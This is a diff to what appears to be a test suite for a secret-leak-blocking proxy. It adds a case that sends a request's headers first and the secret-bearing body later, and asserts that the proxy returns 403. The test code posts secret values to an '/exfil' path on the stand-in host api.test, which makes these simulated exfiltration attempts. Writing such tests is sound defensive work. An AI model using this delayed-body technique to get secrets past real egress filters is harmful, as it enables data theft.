@@ -45,6 +45,26 @@ out("body_url", proxy("POST", "/exfil", body="k=" + url))
 out("body_hex", proxy("POST", "/partial", body=("x" * 70000 + hexed + "y" * 10).encode()))
 out("body_split_b64", proxy("POST", "/exfil", body=("{\"d\": \"" + b64 + "\"}").encode()))
 
+# The head first, the body with the value a moment later: the upstream
+# must not see even the head.
+def proxy_late(body):
+    try:
+        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+        s.sendall(b"POST http://api.test:8080/exfil HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n")
+        import time; time.sleep(0.3)
+        s.sendall(body)
+        data = b""
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            data += d
+        return data.split(b" ")[1].decode() if data else "closed"
+    except Exception as e:
+        return "error " + type(e).__name__
+
+out("body_late", proxy_late(("k=" + url).encode()))
+
 # Capture path: a direct connection to api.test:8080 with the secret in the body.
 def capture(payload):
     try:
@@ -116,6 +136,7 @@ fn canaries_leaving_in_any_encoding_are_detected_and_blocked() {
             "body_url",
             "body_hex",
             "body_split_b64",
+            "body_late",
             "connect_name",
         ] {
             assert_eq!(value_of(&run, k), "403", "[{mode}] {k}\n{}", run.describe());
